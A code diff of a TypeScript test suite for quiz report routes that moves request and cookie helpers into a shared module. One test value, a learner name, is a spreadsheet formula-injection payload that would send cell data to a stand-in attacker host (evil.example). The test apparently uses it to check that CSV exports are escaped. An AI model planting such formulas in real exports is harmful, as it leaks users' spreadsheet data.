@@ -1,30 +1,7 @@
 import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { cookieFrom, ctx, type Handler, request, useTestDatabase } from "../../helpers/route-requests";
 import type { TestDatabase } from "../quiz/databases";
-
-type Ctx = { params: Promise<Record<string, string>> };
-type Handler = (request: Request, context: Ctx) => Promise<Response> | Response;
-
-const origin = "http://localhost:3000";
-const ctx = (params: Record<string, string>): Ctx => ({ params: Promise.resolve(params) });
-
-function request(path: string, options: { body?: unknown; cookie?: string } = {}) {
-  const headers = new Headers({ origin });
-  if (options.body !== undefined) headers.set("content-type", "application/json");
-  if (options.cookie) headers.set("cookie", options.cookie);
-  return new Request(`${origin}${path}`, {
-    method: options.body !== undefined ? "POST" : "GET",
-    headers,
-    body: options.body !== undefined ? JSON.stringify(options.body) : undefined,
-  });
-}
-
-function cookieFrom(response: Response): string {
-  return response.headers
-    .getSetCookie()
-    .map((c) => c.split(";")[0]!)
-    .join("; ");
-}
 
 /** The name a hostile learner picks: a formula, a comma, quotes and a line break. */
 const hostileName = '=HYPERLINK("http://evil.example/?x="&A1, "click")\nsecond line';
@@ -69,9 +46,7 @@ export function reportsSuite(name: string, start: () => Promise<TestDatabase | {
       return;
     }
     database = started;
-    process.env.DATABASE_URL = database.url;
-    process.env.BETTER_AUTH_SECRET = "test-secret-test-secret-test-secret-0123";
-    process.env.BETTER_AUTH_URL = origin;
+    useTestDatabase(database);
     routes = {
       auth: await import("@/app/api/auth/[...all]/route"),
       attempts: await import("@/app/api/quizzes/[quizId]/attempts/route"),
